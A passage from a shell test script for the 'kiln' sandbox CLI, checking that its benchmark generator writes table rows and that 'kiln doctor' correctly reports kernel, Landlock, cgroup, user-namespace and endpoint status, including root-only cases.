	[ "$(diff docs/performance.md "$tmp/perf.md" | grep -c '^>')" -eq 2 ] || { diff docs/performance.md "$tmp/perf.md"; return 1; }
}
check "bench baseline: the generator writes the run's table rows" bench_table

# kiln doctor (tests/cli/doctor.py): each fact against what the test
# finds on the host itself, then degraded cases made real; as root also
# a mount inside the workspace, no user namespaces, and the same facts as
# nobody.
doctor_case() { python3 tests/cli/doctor.py --kiln "$kiln" "$1"; }
doctor_host() { doctor_case host; }
doctor_text() { doctor_case text; }
doctor_endpoint_answers() { doctor_case endpoint_answers; }
doctor_python_missing() { doctor_case python_missing; }
doctor_control() { doctor_case control; }
doctor_server() { doctor_case server; }
doctor_mount_inside() { doctor_case mount_inside; }
doctor_no_userns() { doctor_case no_userns; }
doctor_run_no_userns() { doctor_case run_no_userns; }
doctor_nobody() { doctor_case nobody; }
check "doctor --json: the host's kernel, Landlock ABI, cgroup version, python3, node and modules; a closed endpoint is degraded with its fix (exit 1)" doctor_host
check "doctor: aligned ok/degraded/missing lines with fixes" doctor_text
check "doctor: an endpoint that answers is ok; no key or password printed" doctor_endpoint_answers
check "doctor: a python that is not installed is missing with its fix" doctor_python_missing
check "doctor: control characters in a config value are shown visibly" doctor_control
check "doctor: the server's kiln/doctor gives the CLI's report for its workspace" doctor_server
if [ "$(id -u)" = 0 ]; then
	check "doctor: a mount inside the workspace is degraded with findmnt's command" doctor_mount_inside
	check "doctor: no user namespaces names user.max_user_namespaces, exit 2" doctor_no_userns
	check "kiln run with no user namespaces names the setting and its fix, as doctor does (exit 125)" doctor_run_no_userns
	if command -v setpriv >/dev/null 2>&1; then
		check "doctor --json as nobody: the same facts" doctor_nobody
	fi
fi

echo "cli: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
